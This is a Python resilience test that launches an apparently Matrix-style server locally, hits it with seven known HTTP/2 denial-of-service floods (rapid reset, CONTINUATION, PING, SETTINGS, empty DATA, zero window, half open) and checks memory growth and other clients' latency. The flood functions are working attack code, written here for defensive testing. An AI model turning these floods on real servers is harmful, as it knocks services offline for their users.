#!/usr/bin/env python3
"""Floods the program's HTTP/2 in every known way and prints what that costs: memory, and the time of others."""

import argparse
import pathlib
import resource
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

from house import start

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PATH = b"/_matrix/client/versions"
GET = b"\x82\x86\x01\x02hs\x04" + bytes([len(PATH)]) + PATH
POST = b"\x83\x86\x01\x02hs\x04" + bytes([len(PATH)]) + PATH
# What a flood may cost at most.
MEMORY_MB = 200
SECONDS = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(port, settings=b""):
    client = socket.create_connection(("127.0.0.1", port), 5)
    client.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return client


def rapid_reset(port, until):
    while time.monotonic() < until:
        with connect(port) as client:
            for n in range(1, 4000, 2):
                client.sendall(frame(HEADERS, END_STREAM | END_HEADERS, n, GET) + frame(RESET, 0, n, b"\0\0\0\x08"))


def continuation(port, until):
    field = b"\0\x01a\x7f\x81\x07" + b"x" * 1024
    while time.monotonic() < until:
        with connect(port) as client:
            client.sendall(frame(HEADERS, END_STREAM, 1, GET))
            for _ in range(2000):
                client.sendall(frame(CONTINUATION, 0, 1, field) * 16)


def pings(port, until):
    repeat(port, until, frame(PING, 0, 0, b"12345678"))


def settings(port, until):
    repeat(port, until, frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff"))


def empty_data(port, until):
    with connect(port) as client:
        client.sendall(frame(HEADERS, END_HEADERS, 1, POST))
        while time.monotonic() < until:
            client.sendall(frame(DATA, 0, 1) * 1000)


def repeat(port, until, sent):
    """Sends the same again and again, and reads nothing."""
    while time.monotonic() < until:
        with connect(port) as client:
            while time.monotonic() < until:
                client.sendall(sent * 1000)


def no_window(port, until):
    """Asks for answers that there is no room for."""
    parked(port, until, HEADERS, GET, END_STREAM | END_HEADERS, b"\0\x04\0\0\0\0")


def half_open(port, until):
    """Begins 10,000 bodies and sends none."""
    parked(port, until, HEADERS, POST, END_HEADERS, b"")


def parked(port, until, kind, fields, flags, said):
    clients = []
    for _ in range(100):
        client = connect(port, said)
        client.sendall(b"".join(frame(kind, flags, 2 * n + 1, fields) for n in range(100)))
        clients.append(client)
    time.sleep(max(0, until - time.monotonic()))
    for client in clients:
        client.close()


def attack(flood, port, until):
    while time.monotonic() < until:
        try:
            flood(port, until)
        except OSError:
            pass  # It was sent away, as it should be.


def memory_kb(pid):
    status = pathlib.Path(f"/proc/{pid}/status").read_text()
    return int(next(line for line in status.splitlines() if line.startswith("VmRSS")).split()[1])


def ask(port):
    """One request of somebody else, from a process of its own; its time in ms."""
    command = ["curl", "-s", "-o", "/dev/null", "-m", "60", "-w", "%{http_code} %{time_total}", "-X", "OPTIONS"]
    said = subprocess.run([*command, f"http://127.0.0.1:{port}/"], capture_output=True, text=True).stdout.split()
    assert said[0] == "204", said
    return float(said[1]) * 1000


def watch(pid, until, seen):
    """Adds what memory is in use, until then."""
    while time.monotonic() < until:
        seen.append(memory_kb(pid))
        time.sleep(0.05)


def measure(name, flood, program, port):
    seen, times = [memory_kb(program.pid)], []
    until = time.monotonic() + SECONDS
    helpers = [threading.Thread(target=watch, args=(program.pid, until, seen))]
    if flood:
        helpers.append(threading.Thread(target=attack, args=(flood, port, until)))
    for helper in helpers:
        helper.start()
    while time.monotonic() < until:
        times.append(ask(port))
        time.sleep(0.01)
    for helper in helpers:
        helper.join()
    times.sort()
    print(f"{name:13} {seen[0] / 1024:7.1f} {max(seen) / 1024:7.1f} MB   others: {len(times):4} served, "
          f"median {times[len(times) // 2]:6.1f} ms, p99 {times[int(len(times) * 0.99)]:6.1f} ms", flush=True)
    return max(seen) - seen[0] < MEMORY_MB * 1024


def main():
    arguments = argparse.ArgumentParser(description=__doc__)
    arguments.add_argument("--binary", required=True)
    binary = arguments.parse_args().binary
    floods = [("quiet", None), ("rapid reset", rapid_reset), ("CONTINUATION", continuation), ("PING", pings),
              ("SETTINGS", settings), ("empty DATA", empty_data), ("window of 0", no_window), ("half open", half_open)]
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    with tempfile.TemporaryDirectory() as room:
        program, (port, _) = start(binary, pathlib.Path(room), silent=True)
        try:
            good = [measure(name, flood, program, port) for name, flood in floods]
        finally:
            program.send_signal(signal.SIGKILL)
            program.wait()
    sys.exit(0 if all(good) else 1)


if __name__ == "__main__":
    main()
